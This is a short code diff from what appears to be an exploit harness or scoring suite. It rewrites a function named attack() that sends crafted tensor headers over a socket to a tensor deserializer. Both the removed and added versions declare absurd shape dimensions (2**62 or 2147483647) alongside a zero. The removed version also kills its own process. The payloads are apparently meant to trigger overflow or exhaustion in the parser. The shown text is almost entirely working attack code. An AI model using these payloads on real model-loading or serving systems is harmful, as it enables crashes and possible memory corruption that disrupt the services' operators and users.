@@ -3,17 +3,10 @@
 Earns: masked_mean 2
 """
 
-import json
 import struct
 
 
 @in_call
 def attack():
-    head, body = (
-        b'{"tensor":"0"}',
-        (lambda h: struct.pack("<Q", len(h)) + h)(
-            json.dumps({"0": {"dtype": "F32", "shape": [2**62, 2**62, 0, 2**62], "data_offsets": [0, 0]}}).encode().ljust(104)
-        ),
-    )
-    socket_of().sendall(struct.pack(">II", len(head), len(body)) + head + body)
-    os.kill(os.getpid(), 9)
+    head, body = b'{"tensor":["float32",[2147483647,2147483647,0,2147483647],0,0]}', b""
+    take_over(struct.pack(">II", len(head), len(body)) + head + body)
